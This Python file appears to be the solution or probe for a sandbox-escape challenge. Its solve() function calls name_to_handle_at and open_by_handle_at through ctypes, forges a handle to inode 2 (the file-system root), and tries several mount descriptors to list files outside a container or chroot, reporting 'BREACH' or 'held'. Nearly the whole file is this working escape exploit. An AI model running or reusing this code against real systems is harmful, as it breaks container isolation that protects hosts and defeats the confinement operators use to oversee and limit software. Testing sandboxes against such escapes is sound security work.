# Opens a file by its handle, past all folders on the way to it.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]


def solve(target):
    handle, mount = Handle(bytes=128), ctypes.c_int()
    if libc.name_to_handle_at(-100, target["secret_file"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        return "BREACH: the file's handle is known"
    root = Handle(bytes=8, type=1)
    root.handle[0] = 2  # inode 2, the root of most file systems
    for descriptor in range(8):
        opened = libc.open_by_handle_at(descriptor, ctypes.byref(root), os.O_RDONLY)
        if opened >= 0:
            return f"BREACH: {os.listdir(opened)}"
    return "held"
